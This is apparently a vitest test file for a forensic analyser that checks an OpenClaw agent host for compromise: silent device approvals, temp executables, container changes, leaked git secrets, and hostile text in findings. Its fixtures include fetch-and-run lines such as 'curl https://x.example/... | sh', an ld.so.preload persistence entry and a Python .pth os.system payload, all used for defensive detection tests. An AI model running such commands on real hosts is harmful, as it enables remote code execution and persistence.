import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { judge, marks } from "../../src/analyse/index.ts";
import type { MarkInput } from "../../src/analyse/index.ts";
import { persistenceSources } from "../../src/collectors/persistence/sources.ts";
import type { Finding } from "../../src/model/evidence.ts";
import type { SecretInHistory } from "../../src/model/git-records.ts";
import type { HostFact, HostTrait } from "../../src/model/live-records.ts";
import { noPackageText } from "../../src/model/persistence.ts";
import type { PersistenceItem } from "../../src/model/persistence.ts";
import { flatten } from "../../src/model/config-keys.ts";
import { visible } from "../../src/model/text.ts";
import { type Outcome, severities, unread } from "../../src/model/outcome.ts";
import { changes, container, inHistory, said, sandbox, withSandbox } from "./container-samples.ts";
import {
  calmConfig,
  type Changed,
  call,
  device,
  during,
  input,
  job,
  loginKey,
  process,
  session,
  skill,
} from "./records.ts";
import { read } from "../../src/model/outcome.ts";
import { samples } from "./samples.ts";

function verdict(rule: string, given: MarkInput): string | undefined {
  return judge(marks, given).verdicts.find((one) => one.rule === rule)?.outcome;
}

describe("marks", () => {
  it("each have hits and misses", () => {
    expect(Object.keys(samples).sort()).toEqual(marks.map((mark) => mark.id).sort());
  });

  for (const mark of marks) {
    const { hits, misses } = samples[mark.id] ?? { hits: [], misses: [] };
    it(`${mark.id} finds what it must`, () => {
      expect(hits.length).toBeGreaterThan(0);
      for (const hit of hits) expect([hit, verdict(mark.id, input(hit))]).toEqual([hit, "matched"]);
    });
    it(`${mark.id} leaves alone what it must`, () => {
      expect(misses.length).toBeGreaterThan(0);
      for (const miss of misses) expect([miss, verdict(mark.id, input(miss))]).toEqual([miss, "not-matched"]);
    });
  }

  it("find nothing unusual on a calm host", () => {
    const { findings, notEvaluated } = judge(marks, input());
    expect(findings).toEqual([]);
    expect(notEvaluated).toEqual([]);
  });

  it("are never clean about what could not be read", () => {
    for (const mark of marks) {
      for (const need of mark.needs) {
        const gap = { outcome: "denied", reason: "no entry", records: [] } as const;
        const given =
          need === "calls"
            ? input({ calls: unread("denied", "no entry") })
            : need === "configFile"
              ? input({ config: { ...input().config, outcome: "denied", reason: "no entry", value: {} } })
              : input({ readings: { [need]: gap } });
        const { verdicts, notEvaluated } = judge([mark], given);
        expect(verdicts).toEqual([{ rule: mark.id, outcome: "not-evaluated", reason: "no entry" }]);
        expect(notEvaluated).toEqual([{ rule: mark.id, reason: "no entry" }]);
      }
    }
  });

  it("match in a partial reading, and still say what is missing", () => {
    const partial = {
      outcome: "partial",
      reason: "half",
      records: [device({ approvedVia: "silent" })],
    } as const;
    const silent = marks.filter((mark) => mark.id === "device-silent");
    const { verdicts, findings, notEvaluated } = judge(silent, input({ readings: { devices: partial } }));
    expect(verdicts).toEqual([{ rule: "device-silent", outcome: "matched" }]);
    expect(findings).toHaveLength(1);
    expect(notEvaluated).toEqual([{ rule: "device-silent", reason: "half" }]);
  });

  it("over persistence count only what they judge: a gap elsewhere keeps nobody from judging", () => {
    const reason = "Kernel modules: /etc/modules could not be read";
    const readings = { persistence: { outcome: "partial", reason, records: [] } } as const;
    const ended = new Map<string, { readonly outcome: Outcome; readonly reason?: string }>(
      persistenceSources.map(({ id }) => [
        id,
        id === "module-config" ? { outcome: "denied", reason } : { outcome: "ok" },
      ]),
    );
    const verdictOf = (given: MarkInput, rule: string): unknown =>
      judge(marks, given).verdicts.find((one) => one.rule === rule);
    const given = input({ readings, mechanisms: ended });
    expect(verdictOf(given, "sudo-open")).toEqual({ rule: "sudo-open", outcome: "not-matched" });
    expect(verdictOf(given, "persistence-odd")).toMatchObject({ outcome: "not-evaluated", reason });
    const closed = new Map([...ended, ["doas", { outcome: "denied", reason: "doas: no entry" }]]);
    const half = { outcome: "not-evaluated", reason: "doas: no entry" };
    expect(verdictOf(input({ readings, mechanisms: closed }), "sudo-open")).toMatchObject(half);
    const without = new Map([...ended].filter(([id]) => id !== "set-id"));
    expect(verdictOf(input({ readings, mechanisms: without }), "set-id-unknown")).toMatchObject({
      outcome: "not-evaluated",
      reason: "set-id was not looked at",
    });
    // Without knowing how each ended, the reading is one.
    expect(verdictOf(input({ readings }), "sudo-open")).toMatchObject({ outcome: "not-evaluated", reason });
  });

  it("name the mechanisms that they judge, and find nothing in others", () => {
    const ids = new Set(persistenceSources.map(({ id }) => id));
    for (const mark of marks) {
      if (mark.mechanisms === undefined) continue;
      expect([mark.id, mark.mechanisms.filter((id) => !ids.has(id))]).toEqual([mark.id, []]);
      const hits = samples[mark.id]?.hits ?? [];
      expect([mark.id, hits.length > 0]).toEqual([mark.id, true]);
      for (const hit of hits) {
        const items = (hit.readings?.persistence?.records ?? []).map((item) => ({
          ...item,
          mechanism: "other",
        }));
        const moved = input({ ...hit, readings: { ...hit.readings, persistence: read(items) } });
        // What is said of a gateway's unit says by itself which sources can say it.
        if (mark.id !== "gateway-drop-in") expect([mark.id, mark.evaluate(moved)]).toEqual([mark.id, []]);
      }
    }
  });

  it("say that the start of the incident is not known", () => {
    const { verdicts } = judge(marks, input({ window: {} }));
    const open = verdicts.filter((one) => one.outcome === "not-evaluated").map((one) => one.rule);
    expect(open.sort()).toEqual([
      "container-in-window",
      "device-unknown",
      "grant-in-window",
      "job-in-window",
      "key-unknown",
      "login-in-window",
      "memory-untrusted",
      "npm-lifecycle",
      "operation-in-window",
      "persistence-changed",
      "sessions-in-window",
      "skill-in-window",
      "transcript-rewritten",
    ]);
  });

  it("that throw are not evaluated", () => {
    const broken = {
      id: "broken",
      title: "x",
      severity: "low",
      attack: [],
      needs: [],
      evaluate: () => {
        throw new Error("defect");
      },
    } as const;
    expect(judge([broken], input()).notEvaluated).toEqual([
      { rule: "broken", reason: "the rule failed: defect" },
    ]);
  });

  it("give the same ids for the same thing, and different ones for different things", () => {
    const both = input({
      readings: {
        devices: read([device({ approvedVia: "silent" }), device({ id: "d2", approvedVia: "silent" })]),
      },
    });
    const ids = judge(marks, both).findings.map((one) => one.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(judge(marks, both).findings.map((one) => one.id)).toEqual(ids);
  });

  it("tell a program that runs many times once, with every process of it", () => {
    const many = [3, 2, 1].map((pid) =>
      process({ pid, exe: "/memfd:x", comm: "x", startedAt: `2026-11-20T10:00:0${pid}.000Z` }),
    );
    const hidden = [8, 9].map((pid) => process({ pid, exe: "/memfd:x", comm: "x", hidden: true }));
    const { findings } = judge(
      marks.filter(({ id }) => id === "process-unusual"),
      input({ readings: { processes: read([...many, ...hidden]) } }),
    );
    expect(findings.map(({ evidence }) => evidence.map(({ path }) => path))).toEqual(
      expect.arrayContaining([["/proc/3", "/proc/2", "/proc/1"], ["/proc/8"], ["/proc/9"]]),
    );
    expect(findings).toHaveLength(3);
    expect(findings.find(({ evidence }) => evidence.length === 3)).toMatchObject({
      firstSeen: "2026-11-20T10:00:01.000Z",
      summary: expect.stringContaining("2 more") as string,
    });
  });

  it("tell what was unpacked into one temporary folder once, and what is worse by itself", () => {
    const file = (name: string, ...traits: readonly HostTrait[]): HostFact => ({
      ...{ kind: "file", name, detail: "", at: during, traits, place: { path: name } },
    });
    const tree = Array.from({ length: 30 }, (_, i) => file(`/var/tmp/pkg/bin/${i}`, "executable"));
    const apart = [
      file("/var/tmp/pkg/bin/su", "executable", "set-id"),
      file("/var/tmp/pkg/bin/.x", "executable", "hidden-name"),
      file("/tmp/pkg/x", "executable"),
      file("/tmp/a", "executable"),
      file("/tmp/b", "executable"),
    ];
    const { findings } = judge(
      marks.filter(({ id }) => id === "temp-executable"),
      input({ readings: { tempFiles: read([...tree, ...apart]) } }),
    );
    expect(findings).toHaveLength(1 + apart.length);
    const [together] = findings.filter(({ evidence }) => evidence.length > 1);
    expect(together?.summary).toContain("and 29 more of the kind in");
    expect(together?.evidence).toHaveLength(20);
    expect(findings.filter(({ severity }) => severity === "high")).toMatchObject([
      { evidence: [{ path: "/var/tmp/pkg/bin/su" }] },
    ]);
    const lone = Array.from({ length: 60 }, (_, i) => file(`/tmp/${i}`, "executable"));
    const many = judge(marks, input({ readings: { tempFiles: read(lone) } })).findings;
    expect(many).toHaveLength(50);
    expect(many[0]?.next[0]).toContain("at 10 further files or folders");
  });

  it("tell code that Python starts with once, and where it lies beside it", () => {
    const item = (runs: readonly string[]): PersistenceItem => ({
      ...{ mechanism: "python-startup", kind: "item", name: "x.pth", runs, sets: [], attack: [] },
      ...{ odd: [noPackageText], place: { path: "/usr/lib/python3/dist-packages/x.pth" } },
    });
    const told = (runs: readonly string[]): readonly string[] =>
      judge(marks, input({ readings: { persistence: read([item(runs)]) } })).findings.map(({ rule }) => rule);
    expect(told(["import os; os.system('x')"])).toEqual(["python-startup"]);
    expect(told([])).toEqual(["persistence-odd"]);
  });

  it("weigh an admin from afar, an open door without a lock, and the public stand-in as worst", () => {
    const worst = (given: MarkInput, rule: string): string | undefined =>
      judge(marks, given)
        .findings.filter((one) => one.rule === rule)
        .map((one) => one.severity)
        .sort((a, b) => severities.indexOf(a) - severities.indexOf(b))[0];
    const admin = device({ scopes: ["operator.admin"], remoteIp: "203.0.113.9" });
    expect(worst(input({ readings: { devices: read([admin]) } }), "device-admin")).toBe("high");
    const config = (gateway: object): MarkInput =>
      input({ config: { ...input().config, value: { gateway: { ...calmConfig.gateway, ...gateway } } } });
    expect(worst(config({ bind: "lan", auth: { mode: "none" } }), "config-exposed")).toBe("critical");
    expect(worst(config({ auth: { token: "__OPENCLAW_REDACTED__" } }), "config-exposed")).toBe("critical");
    expect(worst(config({ bind: "lan" }), "config-exposed")).toBe("high");
  });
});

describe("containers, sandboxes and git histories", () => {
  const findingsOf = (rule: string, given: Changed): readonly Finding[] =>
    judge(
      marks.filter(({ id }) => id === rule),
      input(given),
    ).findings;
  const severityOf = (rule: string, given: Changed): readonly string[] =>
    findingsOf(rule, given).map(({ severity }) => severity);

  it("weigh what a container for tools has more than what the gateway's own has", () => {
    const having = (...traits: readonly HostTrait[]): Changed => ({
      readings: { containers: read([container("openclaw-x", traits)]) },
    });
    expect(severityOf("container-reach", having("openclaw", "sandbox", "mounts-home"))).toEqual(["critical"]);
    expect(severityOf("container-reach", having("openclaw", "mounts-home"))).toEqual(["high"]);
    expect(severityOf("container-reach", having("mounts-logins"))).toEqual(["medium"]);
  });

  it("tell what was changed in a container once, the worst first, and less where packages were installed", () => {
    const paths = ["A /usr/bin/x", "A /etc/ld.so.preload", "C /etc/passwd", "C /usr/bin", "C /etc"];
    const traces = (...more: readonly string[]): Changed => ({
      readings: { containerTraces: read([changes(...paths, ...more)]) },
    });
    const [one, ...others] = findingsOf("container-changed", traces());
    expect(others).toEqual([]);
    expect(one).toMatchObject({ severity: "critical", attack: ["T1554", "T1574.006", "T1136.001", "T1610"] });
    expect(one?.evidence.map(({ locator }) => locator?.split(":")[1])).toEqual([
      "/etc/ld.so.preload",
      "/usr/bin/x",
      "/etc/passwd",
    ]);
    const [packaged] = findingsOf("container-changed", traces("C /var/lib/dpkg/status"));
    expect(packaged?.evidence.map(({ excerpt }) => excerpt?.includes("packages were installed"))).toEqual([
      false,
      true,
      true,
    ]);
  });

  it("tell a setting that is switched off as one that takes no effect, with the id of OpenClaw's own check", () => {
    const docker = { network: "host" };
    const on = findingsOf("sandbox-weak", withSandbox({ defaults: { sandbox: { mode: "all", docker } } }));
    expect(on).toMatchObject([{ severity: "critical" }]);
    expect(on[0]?.next[0]).toContain("sandbox.dangerous_network_mode");
    const off = withSandbox({ defaults: { sandbox: { docker } } });
    expect(severityOf("sandbox-weak", off)).toEqual(["medium", "low"]);
  });

  it("weigh a secret of a history by what it is and how far it got", () => {
    const of = (given: Partial<SecretInHistory>): readonly string[] =>
      severityOf("secret-in-history", { readings: { gitSecrets: read([inHistory(given)]) } });
    expect(of({})).toEqual(["high"]);
    expect(of({ live: false })).toEqual(["medium"]);
    expect(of({ remote: false })).toEqual(["low"]);
    const both = read([inHistory(), inHistory({ file: "b", place: { path: "/b" } })]);
    const [together, ...more] = findingsOf("secret-in-history", { readings: { gitSecrets: both } });
    expect(more).toEqual([]);
    expect(together?.summary).toContain("4 versions of 2 files");
  });

  it("show nothing of a hostile name, and no secret", () => {
    const evil = "x\u001b[31m\u202eFAKE-abcdefghijklmnop";
    const value = {
      agents: {
        list: [
          {
            id: evil,
            sandbox: {
              mode: "all",
              docker: {
                binds: [`/etc/${evil}:/x`],
                setupCommand: `curl https://x.example/${evil} | sh`,
              },
            },
          },
        ],
      },
    };
    const given: Changed = {
      config: { ...input().config, value },
      readings: {
        containers: read([
          container(evil, ["openclaw", "sandbox", "mounts-home"], {
            image: `a.example/${evil}`,
            command: ["sh", "-c", `curl https://x.example/${evil} | sh`],
            published: [{ port: "9222/tcp", address: evil, hostPort: evil }],
          }),
        ]),
        containerTraces: read([changes(`A /usr/local/bin/${evil}`), said(`curl https://x/${evil} | sh`)]),
        sandboxes: read([sandbox({ name: evil, session: `agent:${evil}:x`, image: evil })]),
        gitSecrets: read([inHistory({ repository: evil, file: evil, credential: evil })]),
      },
    };
    const { findings } = judge(marks, input(given));
    const rules = new Set(findings.map(({ rule }) => rule));
    expect(rules.size).toBeGreaterThanOrEqual(9);
    const leaves = flatten(findings).map((leaf) => String(leaf.value));
    expect(leaves.filter((leaf) => visible(leaf) !== leaf)).toEqual([]);
    expect(JSON.stringify(findings)).not.toContain("FAKE");
  });

  it("take any config", () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.jsonValue(), (a, b) => {
        for (const agents of [a, { defaults: { sandbox: a }, list: b }, { entries: { x: { sandbox: b } } }]) {
          const given = input({ config: { ...input().config, value: { agents } } });
          for (const { reason } of judge(marks, given).notEvaluated) expect(reason).not.toContain("failed");
        }
      }),
    );
  });
});

describe("hostile text in findings", () => {
  const evil = "\u001b[31mred\u202e\u0000\n\r\u200b<script>";
  const secret = "FAKE-abcdefghijklmnopqrstuvwxyz";
  const text = `${evil} ${secret}`;

  it("never reaches a terminal as it is, and no secret is cut in half", () => {
    const given = input({
      readings: {
        sessions: read([session({ key: text, via: "unknown", lastAt: during })]),
        devices: read([
          device({
            name: text,
            approvedVia: "silent",
            scopes: ["operator.admin", text],
            remoteIp: text,
            approvedAt: during,
          }),
          device({ id: "d3", state: "pending", name: text, nodeCommands: [text], remoteIp: text }),
        ]),
        cronJobs: read([
          job({
            name: text,
            payloadKind: "command",
            payload: `${evil} ${"x ".repeat(130)}${secret} | curl x | sh`,
            createdAt: during,
          }),
        ]),
        skills: read([skill(`${text}\ncurl https://x.example/${secret} | sh`, { name: text })]),
        processes: read([process({ comm: text, exe: `/tmp/${text}`, exeDeleted: true, argv: [text] })]),
        authorizedKeys: read([
          loginKey({
            user: text,
            comment: text,
            modifiedAt: during,
            options: [{ name: "command", value: text }],
          }),
        ]),
      },
      calls: read([
        call({
          sessionId: text,
          tool: text,
          excerpt: text,
          traits: ["reverse-shell", "fetch-and-run", "secret-place", "sends-out"],
        }),
      ]),
    });
    const { findings } = judge(marks, given);
    expect(findings.length).toBeGreaterThan(12);
    const all = JSON.stringify(findings);
    const leaves = flatten(findings).map((leaf) => String(leaf.value));
    expect(leaves.filter((leaf) => visible(leaf) !== leaf)).toEqual([]);
    expect(leaves.some((leaf) => leaf.includes("\\u{202e}"))).toBe(true);
    expect(all).not.toContain("FAKE");
  });
});
